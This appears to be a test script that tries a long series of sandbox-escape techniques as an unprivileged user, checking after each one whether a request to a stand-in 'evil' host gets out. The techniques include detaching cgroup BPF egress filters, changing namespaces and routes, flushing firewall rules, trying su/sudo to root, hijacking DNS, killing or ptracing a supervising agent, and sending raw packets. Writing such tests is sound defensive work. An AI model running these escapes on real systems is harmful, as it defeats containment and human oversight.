# Ways out of a sandbox, one after the other; the request after each is what counts.
# escape.sh EVIL TOKEN PINS STATE PARENT AGENT
#
# For nobody, with or without a user namespace of its own, and for nobody else: real root would change the host. Names what
# it attacks, so that other tests on the machine are left alone.
set -u
[ "$(id -u)" -ne 0 ] || [ "$(awk 'NR == 1 { print $2 }' /proc/self/uid_map)" -ne 0 ] || exit 99
evil=$1 token=$2 pins=$3 state=$4 parent=$5 agent=$6
work=$(mktemp -d "$PWD/escape.XXXXXX") || exit 98
out() { curl -sS -m1 "http://$evil/$token" >/dev/null 2>&1; echo "after-$1=$?"; }
try() { name=$1; shift; timeout 5 "$@" >/dev/null 2>&1; echo "$name=$?"; out "$name"; }

own=$(sed -n 's/^0:://p' /proc/self/cgroup)
try remove-pins sh -c "rm -rf $pins/* $state/*; umount -l $pins"
try detach-programs sh -c "for type in cgroup_inet_egress cgroup_inet4_connect cgroup_udp4_sendmsg; do
    for id in \$(seq 1 20); do bpftool cgroup detach /sys/fs/cgroup$own \$type id \$id && exit 0; done; done; exit 1"
try parent-cgroup sh -c "echo \$\$ > $parent/cgroup.procs && curl -sS -m1 http://$evil/$token"
try own-cgroupfs unshare -m -C sh -c "mkdir $work/cg && mount -t cgroup2 none $work/cg && echo \$\$ > $work/cg/cgroup.procs &&
    mkdir $work/cg/free && echo \$\$ > $work/cg/free/cgroup.procs; curl -sS -m1 http://$evil/$token"
try remount-cgroupfs sh -c "mount -o remount,rw /sys/fs/cgroup; mount -o remount,rw /sys/fs/cgroup/unified; echo \$\$ > $parent/cgroup.procs"
try own-bpffs unshare -m sh -c "mkdir $work/bpf && mount -t bpf none $work/bpf && rm -rf $work/bpf/*"
try new-netns unshare -n sh -c "ip link set lo up; curl -sS -m1 http://$evil/$token"
try new-user unshare -U -r sh -c "curl -sS -m1 http://$evil/$token"
try agents-netns nsenter -t "$agent" -n curl -sS -m1 "http://$evil/$token"
try routes sh -c "ip route flush cache; ip route add local $evil dev lo; ip route add $evil dev eth0"
try links sh -c "ip link add free link eth0 type macvlan && ip link set free up; ip link set eth0 address 02:00:00:00:00:09"
try filters sh -c "tc qdisc del dev eth0 clsact; tc qdisc add dev eth0 clsact; iptables -t nat -I OUTPUT -j DNAT --to $evil; nft flush ruleset"
try unmask sh -c "for point in \$(awk '{print \$5}' /proc/self/mountinfo); do case \$point in /|/proc|/dev|/lib*|/usr*) ;; *) umount -l \$point;; esac; done"
try sysctl sh -c "echo 1 > /proc/sys/net/ipv4/ip_forward; echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start"
try become-root sh -c "su -c id root </dev/null || sudo -n id || setpriv --reuid=0 --clear-groups id"
try resolver sh -c "echo nameserver 198.51.100.54 > $work/resolv.conf; mount --bind $work/resolv.conf /etc/resolv.conf || cp $work/resolv.conf /etc/resolv.conf;
    curl -sS -m1 http://evil.test/$token; dig @198.51.100.54 +tries=1 +time=1 evil.test"
try signal-agent kill -9 "$agent"
try trace-agent python3 -I -c "
import ctypes, sys
sys.exit(ctypes.CDLL(None).ptrace(16, $agent, 0, 0) != 0)"
try raw-socket python3 -I -c "
import socket
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.sendto(b'E\0\0\x1c\0\0\0\0@\x11\0\0' + socket.inet_aton('198.51.100.30') + socket.inet_aton('$evil') + b'\0\x09\0\x09\0\x08\0\0', ('$evil', 0))"
try packet-socket python3 -I -c "
import socket
sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800)
sock.sendto(b'E\0\0\x1c\0\0\0\0@\x11\0\0' + socket.inet_aton('198.51.100.30') + socket.inet_aton('$evil') + b'\0\x09\0\x09\0\x08\0\0', ('eth0', 0x0800, 0, 0, b'\xff' * 6))"
echo done=0
